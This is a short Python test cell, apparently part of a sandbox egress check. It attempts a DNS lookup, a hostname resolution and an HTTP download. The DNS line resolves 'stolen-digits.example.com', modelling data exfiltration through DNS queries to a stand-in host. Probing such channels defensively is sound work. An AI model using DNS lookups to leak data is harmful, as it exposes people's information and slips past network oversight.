# Asks for the address of a name, to carry something out in the question.
# row: DNS
# outcome: D
# held: 3

# %% own
import urllib.request

attempt("an address", lambda: socket.getaddrinfo("stolen-digits.example.com", 443))
attempt("an old call", lambda: socket.gethostbyname("example.com"))
attempt("a download", lambda: urllib.request.urlopen("http://example.com/", timeout=2).read())
